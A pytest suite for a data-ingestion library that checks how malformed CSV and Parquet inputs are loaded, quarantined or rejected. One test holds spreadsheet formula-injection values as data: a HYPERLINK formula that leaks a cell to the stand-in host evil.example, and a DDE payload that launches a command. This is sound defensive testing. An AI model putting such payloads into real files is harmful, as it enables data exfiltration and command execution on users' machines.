"""The bad-input corpus: every case has its exact outcome asserted (what loads, what is
quarantined with which reason, what error names which file).

Cases are landing folders under `ingestion_corpus/<case>/<folder>/…` (with a `mapping.yaml` next
to the folders when the case needs one). Inputs that must be binary or huge (invalid UTF-8,
Parquet with a wrong column type, 100k-character strings) are generated into tmp_path here
rather than committed.
"""

from __future__ import annotations

import datetime
import json
import shutil
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from b2b_scoring.lib.ingestion import (
    IngestionError,
    SourceMapping,
    TableReport,
    identity_mapping,
    ingest_landing,
    ingest_table,
    load_mapping,
)

CORPUS = Path(__file__).resolve().parent / "ingestion_corpus"
NOW = datetime.datetime(2025, 6, 1)
IDENTITY = identity_mapping().tables
CASES = {
    "duplicate_keys",
    "empty_file",
    "flat_export",
    "flat_export_missing_key",
    "formula_strings",
    "future_timestamps",
    "header_only",
    "missing_mapped_column",
    "missing_required_column",
    "mixed_date_formats",
    "not_csv_or_parquet",
    "orphan_events",
    "quoted_fields",
    "semicolon_delimited",
    "timestamp_before_floor",
    "unknown_enumerations",
    "utf8_bom",
    "wrong_types",
}


def case_dir(name: str) -> Path:
    assert name in CASES, f"add {name} to CASES"
    path = CORPUS / name
    assert path.is_dir(), f"corpus case {name} is missing"
    return path


def case_mapping(landing: Path) -> SourceMapping:
    mapping_file = landing / "mapping.yaml"
    return load_mapping(mapping_file) if mapping_file.exists() else identity_mapping()


def ingest(con: duckdb.DuckDBPyConnection, landing: Path, **kwargs) -> dict[str, TableReport]:
    reports = ingest_landing(con, landing, case_mapping(landing), now=NOW, **kwargs)
    for report in reports:
        assert report.reconciles, report.to_dict()
    return {report.table: report for report in reports}


def outcome(report: TableReport) -> dict:
    """The counts of a report, in one comparable value."""
    return {
        "read": report.rows_read,
        "loaded": report.rows_loaded,
        "quarantined": report.rows_quarantined,
        "by_reason": report.quarantined_by_reason,
        "exact_duplicates": report.exact_duplicates_dropped,
        "skipped": report.rows_skipped,
        "errors": report.errors,
        "warnings": report.warnings,
    }


def clean(loaded: int, read: int | None = None, **changes) -> dict:
    expected = {
        "read": loaded if read is None else read,
        "loaded": loaded,
        "quarantined": 0,
        "by_reason": {},
        "exact_duplicates": 0,
        "skipped": 0,
        "errors": [],
        "warnings": {},
    }
    expected.update(changes)
    return expected


def table_exists(con: duckdb.DuckDBPyConnection, schema: str, table: str) -> bool:
    return bool(
        con.execute(
            "SELECT count(*) FROM information_schema.tables WHERE table_schema = ? AND table_name = ?",
            [schema, table],
        ).fetchall()[0][0]
    )


def raw_count(con: duckdb.DuckDBPyConnection, table: str) -> int:
    if not table_exists(con, "raw", table):
        return 0
    return con.execute(f'SELECT count(*) FROM raw."{table}"').fetchall()[0][0]


def quarantined(con: duckdb.DuckDBPyConnection, table: str) -> list[tuple[str, int, str, list[str], dict]]:
    """(file name, source row, row spec, reasons, original values) of quarantine.<table>."""
    rows = con.execute(
        f'SELECT source_file, source_row, row_spec, reasons, original FROM quarantine."{table}" '
        "ORDER BY source_file, source_row, row_spec"
    ).fetchall()
    return [
        (Path(f).name, row, spec, list(reasons), json.loads(original))
        for f, row, spec, reasons, original in rows
    ]


def write(path: Path, data: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, bytes):
        path.write_bytes(data)
    else:
        path.write_text(data, encoding="utf-8")
    return path


@pytest.fixture
def con():
    with duckdb.connect() as connection:
        yield connection


# --- files that cannot be read at all: an error naming the file, nothing loaded ----------------


@pytest.mark.parametrize(
    ("case", "table", "file", "problem"),
    [
        ("empty_file", "persons", "persons/persons.csv", "empty"),
        ("not_csv_or_parquet", "persons", "persons/persons.json", "not a CSV or Parquet"),
        ("missing_required_column", "experience_events", "experience_events/b_no_timestamp.csv", "timestamp"),
        ("missing_mapped_column", "persons", "persons/people.csv", "'Id'"),
    ],
)
def test_unreadable_file_raises_naming_the_file_and_loads_nothing(
    con, case: str, table: str, file: str, problem: str
) -> None:
    landing = case_dir(case)
    with pytest.raises(IngestionError) as raised:
        ingest_table(con, landing, case_mapping(landing).tables[table], now=NOW)
    error = raised.value
    assert Path(error.file) == landing / file
    assert str(landing / file) in str(error)
    assert problem in error.problem
    assert raw_count(con, table) == 0
    assert not table_exists(con, "quarantine", table)

    # Through ingest_landing the table is reported with its error instead of raising.
    report = ingest(con, landing)[table]
    assert outcome(report) == clean(0, errors=[{"file": error.file, "problem": error.problem}])
    assert raw_count(con, table) == 0


def test_a_complete_file_next_to_a_broken_one_is_not_loaded_either(con) -> None:
    landing = case_dir("missing_required_column")
    assert (landing / "experience_events" / "a_complete.csv").read_text().count("\n") == 2  # header + e1
    ingest(con, landing)
    assert raw_count(con, "experience_events") == 0


def test_header_only_file_loads_zero_rows_without_error(con) -> None:
    reports = ingest(con, case_dir("header_only"))
    assert outcome(reports["persons"]) == clean(0)
    assert table_exists(con, "raw", "persons") and raw_count(con, "persons") == 0


def test_unreadable_file_rolls_back_and_keeps_what_was_loaded_before(tmp_path: Path, con) -> None:
    events = tmp_path / "experience_events"
    write(
        events / "a.csv",
        "event_id,person_key,timestamp,event_type\ne1,p1,2025-03-01T10:00:00Z,web.formFilledOut\n",
    )
    first = ingest_table(con, tmp_path, IDENTITY["experience_events"], now=NOW)
    assert (first.rows_loaded, raw_count(con, "experience_events")) == (1, 1)

    write(
        events / "b.csv",
        "event_id,person_key,timestamp,event_type\ne2,p1,2025-03-02T10:00:00Z,web.formFilledOut\n",
    )
    write(events / "c.csv", "")
    with pytest.raises(IngestionError, match="c.csv"):
        ingest_table(con, tmp_path, IDENTITY["experience_events"], now=NOW)
    assert con.execute("SELECT event_id FROM raw.experience_events").fetchall() == [("e1",)]


def test_invalid_utf8_raises_naming_the_file(tmp_path: Path, con) -> None:
    path = write(
        tmp_path / "persons" / "persons.csv",
        b"person_key,created_at,last_name\np1,2025-01-01T00:00:00Z,ok\np2,2025-01-02T00:00:00Z,caf\xe9\n",
    )
    with pytest.raises(IngestionError) as raised:
        ingest_table(con, tmp_path, IDENTITY["persons"], now=NOW)
    assert raised.value.file == str(path) and str(path) in str(raised.value)
    assert raw_count(con, "persons") == 0


def test_invalid_utf8_error_says_the_file_is_not_utf8(tmp_path: Path, con) -> None:
    """The problem must say what is wrong, not only where the reader stopped."""
    write(tmp_path / "persons" / "persons.csv", b"person_key,created_at,last_name\np1,2025-01-01,caf\xe9\n")
    with pytest.raises(IngestionError) as raised:
        ingest_table(con, tmp_path, IDENTITY["persons"], now=NOW)
    problem = raised.value.problem.lower()
    assert "utf-8" in problem or "unicode" in problem, raised.value.problem


def test_invalid_utf8_in_the_header_and_binary_junk_raise(tmp_path: Path, con) -> None:
    write(tmp_path / "persons" / "a.csv", b"person_key,created_at,n\xe4me\np1,2025-01-01,x\n")
    with pytest.raises(IngestionError, match="a.csv"):
        ingest_table(con, tmp_path, IDENTITY["persons"], now=NOW)
    (tmp_path / "persons" / "a.csv").unlink()
    write(tmp_path / "persons" / "b.csv", bytes(range(256)) * 4)
    with pytest.raises(IngestionError, match="b.csv"):
        ingest_table(con, tmp_path, IDENTITY["persons"], now=NOW)


def test_a_parquet_suffix_on_something_else_raises(tmp_path: Path, con) -> None:
    write(tmp_path / "accounts" / "a.parquet", b"PAR1 this is not a parquet file")
    with pytest.raises(IngestionError, match=r"a\.parquet"):
        ingest_table(con, tmp_path, IDENTITY["accounts"], now=NOW)


# --- rows that break a rule: quarantined with the reason and the original values ---------------


def test_wrong_types_are_quarantined_per_column(con) -> None:
    reports = ingest(con, case_dir("wrong_types"))
    assert outcome(reports["accounts"]) == clean(
        2,
        read=6,
        quarantined=4,
        by_reason={
            "unparseable:created_at": 2,
            "unparseable:number_of_employees": 2,
            "unparseable:annual_revenue": 1,
        },
    )
    assert con.execute(
        "SELECT account_key, created_at, number_of_employees, annual_revenue FROM raw.accounts ORDER BY 1"
    ).fetchall() == [
        ("a3", datetime.datetime(2024, 1, 3), 25, None),
        ("a4", datetime.datetime(2024, 1, 4), 40, 1e6),
    ]
    rows = quarantined(con, "accounts")
    assert [(row, reasons) for _, row, _, reasons, _ in rows] == [
        (1, ["unparseable:number_of_employees"]),
        (2, ["unparseable:created_at"]),
        (5, ["unparseable:created_at", "unparseable:number_of_employees"]),
        (6, ["unparseable:annual_revenue"]),
    ]
    assert {name for name, *_ in rows} == {"accounts.csv"}
    assert rows[0][4] == {
        "account_key": "a1",
        "created_at": "2024-01-01",
        "account_name": "Acme",
        "number_of_employees": "many",
        "annual_revenue": "100",
    }
    assert rows[1][4]["created_at"] == "yesterday"
    assert rows[3][4]["annual_revenue"] == "1.2M"


def test_quarantine_table_has_the_documented_columns(con) -> None:
    ingest(con, case_dir("wrong_types"))
    assert con.execute(
        "SELECT column_name, data_type FROM information_schema.columns "
        "WHERE table_schema = 'quarantine' AND table_name = 'accounts' ORDER BY ordinal_position"
    ).fetchall() == [
        ("source_file", "VARCHAR"),
        ("source_row", "BIGINT"),
        ("row_spec", "VARCHAR"),
        ("reasons", "VARCHAR[]"),
        ("original", "JSON"),
        ("ingested_at", "TIMESTAMP"),
    ]


def test_duplicate_keys_latest_file_and_last_row_win_exact_copies_are_dropped(con) -> None:
    reports = ingest(con, case_dir("duplicate_keys"))
    assert outcome(reports["persons"]) == clean(
        4, read=8, quarantined=2, by_reason={"duplicate_key": 2}, exact_duplicates=2
    )
    assert con.execute("SELECT person_key, email FROM raw.persons ORDER BY 1").fetchall() == [
        ("p1", "p1@example.com"),
        ("p2", "new@example.com"),  # b.csv is the later file
        ("p3", "p3@example.com"),
        ("p4", "second@example.com"),  # the last row of the file
    ]
    assert [
        (name, row, reasons, original["email"])
        for name, row, _, reasons, original in quarantined(con, "persons")
    ] == [
        ("a.csv", 2, ["duplicate_key"], "old@example.com"),
        ("a.csv", 5, ["duplicate_key"], "first@example.com"),
    ]


def test_future_timestamps_are_quarantined_beyond_one_day_of_tolerance(con) -> None:
    reports = ingest(con, case_dir("future_timestamps"))
    assert outcome(reports["experience_events"]) == clean(
        3, read=6, quarantined=3, by_reason={"timestamp_in_future:timestamp": 2, "unparseable:timestamp": 1}
    )
    assert [
        r[0] for r in con.execute("SELECT event_id FROM raw.experience_events ORDER BY 1").fetchall()
    ] == [
        "e1",
        "e2",
        "e3",  # exactly now + 1 day is still accepted
    ]
    assert [
        (row, original["timestamp"]) for _, row, _, _, original in quarantined(con, "experience_events")
    ] == [
        (4, "2025-06-03T00:00:00Z"),
        (5, "2099-01-01T00:00:00Z"),
        (6, "infinity"),
    ]


def test_timestamps_before_1990_are_quarantined(con) -> None:
    reports = ingest(con, case_dir("timestamp_before_floor"))
    assert outcome(reports["experience_events"]) == clean(
        2,
        read=6,
        quarantined=4,
        # "epoch" is DuckDB's word for 1970-01-01; "-infinity" is no time at all.
        by_reason={"timestamp_before_floor:timestamp": 3, "unparseable:timestamp": 1},
    )
    assert con.execute("SELECT event_id, timestamp FROM raw.experience_events ORDER BY 1").fetchall() == [
        ("e2", datetime.datetime(1990, 1, 1)),
        ("e4", datetime.datetime(2024, 7, 1, 8)),
    ]
    assert [row for _, row, *_ in quarantined(con, "experience_events")] == [1, 3, 5, 6]


def test_orphan_events_are_kept(con) -> None:
    reports = ingest(con, case_dir("orphan_events"))
    assert outcome(reports["persons"]) == clean(1)
    assert outcome(reports["experience_events"]) == clean(2)
    orphans = con.execute(
        "SELECT event_id FROM raw.experience_events e "
        "WHERE NOT EXISTS (SELECT 1 FROM raw.persons p WHERE p.person_key = e.person_key)"
    ).fetchall()
    assert orphans == [("e2",)]


def test_unknown_enumeration_values_are_kept_and_counted_as_warnings(con) -> None:
    reports = ingest(con, case_dir("unknown_enumerations"))
    assert outcome(reports["experience_events"]) == clean(3, warnings={"unknown_event_type": 2})
    # Only Stage changes have a known vocabulary; the Amount change is not a stage.
    assert outcome(reports["opportunity_events"]) == clean(3, warnings={"unknown_stage": 1})
    assert outcome(reports["sales_dispositions"]) == clean(2, warnings={"unknown_disposition": 1})
    assert con.execute("SELECT event_type FROM raw.experience_events ORDER BY event_id").fetchall() == [
        ("web.webpagedetails.pageViews",),
        ("Visit Webpage",),
        ("Change Data Value",),
    ]


# --- awkward but valid input: loads exactly ----------------------------------------------------


def test_mixed_date_formats_use_iso_and_the_mapping_formats(con) -> None:
    landing = case_dir("mixed_date_formats")
    assert case_mapping(landing).tables["persons"].timestamp_formats == ("%m/%d/%Y", "%d.%m.%Y")
    reports = ingest(con, landing)
    assert outcome(reports["persons"]) == clean(
        7, read=8, quarantined=1, by_reason={"unparseable:created_at": 1}
    )
    afternoon, midnight = datetime.datetime(2025, 3, 1, 14, 5), datetime.datetime(2025, 3, 1)
    assert dict(con.execute("SELECT person_key, created_at FROM raw.persons").fetchall()) == {
        "iso_t": afternoon,
        "iso_space": afternoon,
        "iso_z": afternoon,
        "iso_offset": afternoon,  # 15:05 at +01:00 is 14:05 UTC
        "us_date": midnight,
        "dotted": midnight,
        "salesforce_api": afternoon,
    }
    assert [(row, original) for _, row, _, _, original in quarantined(con, "persons")] == [
        (8, {"person_key": "garbage", "created_at": "2025/13/45"})
    ]


def test_quoted_fields_keep_newlines_delimiters_and_quotes_and_rows_count_records(con) -> None:
    reports = ingest(con, case_dir("quoted_fields"))
    assert outcome(reports["experience_events"]) == clean(
        2, read=3, quarantined=1, by_reason={"missing_required:person_key": 1}
    )
    assert con.execute(
        "SELECT event_id, web_url, campaign, asset_name FROM raw.experience_events ORDER BY 1"
    ).fetchall() == [
        ("e1", "https://example.com/a,b?x=1", 'Spring, "Launch" 2025', "line one\nline two, with comma"),
        ("e2", "https://example.com/c", "a;b|c\tTab", "plain"),
    ]
    # source_row counts data rows, not physical lines: e3 starts on line 5 of the file.
    [(_, row, _, reasons, original)] = quarantined(con, "experience_events")
    assert (row, reasons, original["asset_name"]) == (
        3,
        ["missing_required:person_key"],
        "multi\nline\nvalue",
    )


def test_semicolon_delimited_csv(con) -> None:
    reports = ingest(con, case_dir("semicolon_delimited"))
    assert outcome(reports["accounts"]) == clean(3)
    assert con.execute(
        "SELECT account_key, created_at, account_name, number_of_employees, annual_revenue, country "
        "FROM raw.accounts ORDER BY 1"
    ).fetchall() == [
        ("a1", datetime.datetime(2024, 1, 1, 8), "Acme; Inc.", 120, 1500000.5, "Germany"),
        ("a2", datetime.datetime(2024, 2, 1, 9, 30), "Globex, Ltd", 45, None, "France"),
        ("a3", datetime.datetime(2024, 3, 1, 10), "Initech", 7, 250000.0, "Spain"),
    ]


def test_utf8_with_bom(con) -> None:
    landing = case_dir("utf8_bom")
    assert (landing / "persons" / "persons.csv").read_bytes().startswith(b"\xef\xbb\xbfperson_key,")
    reports = ingest(con, landing)
    assert outcome(reports["persons"]) == clean(2)
    assert con.execute(
        "SELECT person_key, created_at, first_name, last_name, country FROM raw.persons ORDER BY 1"
    ).fetchall() == [
        ("p1", datetime.datetime(2025, 1, 2, 3, 4, 5), "Zoë", "Ørsted", "Danmark"),
        ("p2", datetime.datetime(2025, 1, 3), "José", "Müller", "Österreich"),
    ]


def test_formula_like_strings_load_unchanged(con) -> None:
    reports = ingest(con, case_dir("formula_strings"))
    assert outcome(reports["persons"]) == clean(2)
    assert con.execute(
        "SELECT person_key, first_name, last_name, company_name, job_title, email FROM raw.persons ORDER BY 1"
    ).fetchall() == [
        (
            "p1",
            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            "+1",
            "-2",
            "@SUM(A1)",
            "=1+1@example.com",
        ),
        ("p2", "=cmd|' /C calc'!A0", "+49 30 1234567", "-", "@here", "-x@example.com"),
    ]


def test_very_long_strings_load_unchanged(tmp_path: Path, con) -> None:
    long_title = "x" * 100_000
    multiline = "ab,\n" * 25_000  # 100k characters with delimiters and newlines, quoted
    write(
        tmp_path / "persons" / "persons.csv",
        f'person_key,created_at,job_title\np1,2025-01-01T00:00:00Z,{long_title}\np2,2025-01-01T00:00:00Z,"{multiline}"\n',
    )
    report = ingest_table(con, tmp_path, IDENTITY["persons"], now=NOW)
    assert outcome(report) == clean(2)
    assert con.execute("SELECT person_key, job_title FROM raw.persons ORDER BY 1").fetchall() == [
        ("p1", long_title),
        ("p2", multiline),
    ]


def test_parquet_with_a_wrong_column_type_quarantines_what_does_not_convert(tmp_path: Path, con) -> None:
    created = pa.array([datetime.datetime(2024, 1, 1)] * 3, pa.timestamp("us"))
    write_parquet(
        tmp_path / "accounts" / "a.parquet",
        # number_of_employees as text: "12" converts, "many" does not.
        pa.table(
            {
                "account_key": ["a1", "a2", "a3"],
                "created_at": created,
                "number_of_employees": ["many", "12", None],
            }
        ),
    )
    write_parquet(
        tmp_path / "accounts" / "b.parquet",
        # created_at as epoch seconds: an integer is not a timestamp.
        pa.table({"account_key": ["b1", "b2"], "created_at": pa.array([1700000000, 1710000000], pa.int64())}),
    )
    report = ingest_table(con, tmp_path, IDENTITY["accounts"], now=NOW)
    assert outcome(report) == clean(
        2,
        read=5,
        quarantined=3,
        by_reason={"unparseable:number_of_employees": 1, "unparseable:created_at": 2},
    )
    assert con.execute("SELECT account_key, number_of_employees FROM raw.accounts ORDER BY 1").fetchall() == [
        ("a2", 12),
        ("a3", None),
    ]
    rows = quarantined(con, "accounts")
    assert [(name, row, reasons) for name, row, _, reasons, _ in rows] == [
        ("a.parquet", 1, ["unparseable:number_of_employees"]),
        ("b.parquet", 1, ["unparseable:created_at"]),
        ("b.parquet", 2, ["unparseable:created_at"]),
    ]
    assert rows[0][4]["number_of_employees"] == "many"
    assert str(rows[1][4]["created_at"]) == "1700000000"


def write_parquet(path: Path, table: pa.Table) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    pq.write_table(table, path)


def test_csv_and_parquet_in_one_folder_are_unioned_by_column_name(tmp_path: Path, con) -> None:
    write(
        tmp_path / "persons" / "a.csv",
        "person_key,created_at,email\np1,2025-01-01T00:00:00Z,a@example.com\np2,2025-01-02T00:00:00Z,b@example.com\n",
    )
    write_parquet(
        tmp_path / "persons" / "b.parquet",
        pa.table(
            {
                # other order, other case, an extra column, no job_title in either file
                "EMAIL": ["c@example.com", None],
                "Created_At": pa.array(
                    [datetime.datetime(2025, 1, 3), datetime.datetime(2025, 1, 4)], pa.timestamp("us")
                ),
                "person_key": ["p3", "p4"],
                "crm_score": [10, 20],
            }
        ),
    )
    report = ingest_table(con, tmp_path, IDENTITY["persons"], now=NOW)
    assert outcome(report) == clean(4)
    assert sorted(Path(f).name for f in report.files) == ["a.csv", "b.parquet"]
    assert con.execute(
        "SELECT person_key, created_at, email, job_title FROM raw.persons ORDER BY 1"
    ).fetchall() == [
        ("p1", datetime.datetime(2025, 1, 1), "a@example.com", None),
        ("p2", datetime.datetime(2025, 1, 2), "b@example.com", None),
        ("p3", datetime.datetime(2025, 1, 3), "c@example.com", None),
        ("p4", datetime.datetime(2025, 1, 4), None, None),
    ]


# --- flat exports ------------------------------------------------------------------------------


def test_flat_export_with_placeholders_missing_key_and_outcome_and_copies(con) -> None:
    reports = ingest(con, case_dir("flat_export"))
    assert outcome(reports["leads"]) == clean(
        3,
        read=6,
        quarantined=2,
        by_reason={"missing_required:Prospect ID": 1, "missing_required:Converted": 1},
        exact_duplicates=1,
    )
    assert con.execute(
        "SELECT prospect_id, converted, specialization, tags, total_time_spent_on_website, outcome, "
        "_source_row FROM raw.leads ORDER BY 1"
    ).fetchall() == [
        ("id1", "1", None, "Will revert after reading the email", "1532", True, 1),  # "Select" means missing
        ("id2", "0", "Finance Management", "Ringing", "12", False, 2),
        ("id5", "0", "Media and Advertising, Digital", "Busy", "=1+1", False, 6),
    ]
    assert con.execute(
        "SELECT column_name, source_column, role FROM raw.flat_export_columns "
        "WHERE export = 'leads' ORDER BY 1"
    ).fetchall() == [
        ("converted", "Converted", "outcome"),
        ("prospect_id", "Prospect ID", "key"),
        ("specialization", "Specialization", "attribute"),
        ("tags", "Tags", "known_after_contact"),
        ("total_time_spent_on_website", "Total Time Spent on Website", "attribute"),
    ]
    assert [(row, reasons) for _, row, _, reasons, _ in quarantined(con, "leads")] == [
        (3, ["missing_required:Prospect ID"]),
        (4, ["missing_required:Converted"]),
    ]


def test_flat_export_columns_named_like_query_parameters_load(tmp_path: Path, con) -> None:
    """Any header is a column of a flat export, even one named like the engine's own values."""
    (tmp_path / "leads").mkdir()
    (tmp_path / "leads" / "part-0.csv").write_text("Prospect ID,Converted,p0,P1\nid1,1,a,b\nid2,0,c,\n")
    (tmp_path / "mapping.yaml").write_text(
        "flat_exports:\n  leads:\n    folder: leads\n    key: Prospect ID\n    outcome: Converted\n"
        "    positive_outcome_values: ['1']\n"
    )
    assert ingest(con, tmp_path)["leads"].rows_loaded == 2
    assert con.execute("SELECT prospect_id, p0, p1, outcome FROM raw.leads ORDER BY 1").fetchall() == [
        ("id1", "a", "b", True),
        ("id2", "c", None, False),
    ]


def test_flat_export_without_its_key_column_is_an_error_naming_the_file(con) -> None:
    landing = case_dir("flat_export_missing_key")
    report = ingest(con, landing)["leads"]
    assert report.errors == [
        {"file": str(landing / "leads" / "leads.csv"), "problem": report.errors[0]["problem"]}
    ]
    assert "Prospect ID" in report.errors[0]["problem"]
    assert report.rows_loaded == 0 and raw_count(con, "leads") == 0


# --- idempotency and dry runs ------------------------------------------------------------------


def snapshot(con: duckdb.DuckDBPyConnection, tables: list[str]) -> dict:
    state = {}
    for table in tables:
        state[f"raw.{table}"] = sorted(map(repr, con.execute(f'SELECT * FROM raw."{table}"').fetchall()))
        if table_exists(con, "quarantine", table):
            state[f"quarantine.{table}"] = sorted(
                map(
                    repr,
                    con.execute(
                        "SELECT source_file, source_row, row_spec, reasons, original "
                        f'FROM quarantine."{table}"'
                    ).fetchall(),
                )
            )
    return state


@pytest.mark.parametrize(
    ("case", "tables"),
    [
        ("duplicate_keys", ["persons"]),
        ("wrong_types", ["accounts"]),
        ("quoted_fields", ["experience_events"]),
        ("flat_export", ["leads"]),
        ("orphan_events", ["persons", "experience_events"]),
    ],
)
def test_ingesting_the_same_files_twice_changes_nothing(con, case: str, tables: list[str]) -> None:
    landing = case_dir(case)
    first = {name: outcome(r) for name, r in ingest(con, landing).items()}
    before = snapshot(con, tables)
    second = {name: outcome(r) for name, r in ingest(con, landing).items()}
    assert snapshot(con, tables) == before
    assert second == first


def test_dry_run_counts_like_a_real_run_and_writes_nothing(con) -> None:
    landing = case_dir("wrong_types")
    dry = ingest(con, landing, dry_run=True)["accounts"]
    assert not table_exists(con, "raw", "accounts") and not table_exists(con, "quarantine", "accounts")
    real = ingest(con, landing)["accounts"]
    assert outcome(dry) == outcome(real)


def test_upsert_from_a_copied_case_then_a_corrected_file_replaces_the_key(tmp_path: Path, con) -> None:
    shutil.copytree(case_dir("duplicate_keys") / "persons", tmp_path / "persons")
    ingest(con, tmp_path)
    write(
        tmp_path / "persons" / "c.csv",
        "person_key,created_at,email\np2,2024-01-02T00:00:00Z,newest@example.com\n",
    )
    report = ingest(con, tmp_path)["persons"]
    assert report.rows_loaded == 4
    assert con.execute("SELECT email FROM raw.persons WHERE person_key = 'p2'").fetchall() == [
        ("newest@example.com",)
    ]
    assert raw_count(con, "persons") == 4


def test_every_corpus_case_is_listed() -> None:
    """A case folder that is not in CASES is not asserted by any test."""
    assert {p.name for p in CORPUS.iterdir() if p.is_dir()} == CASES
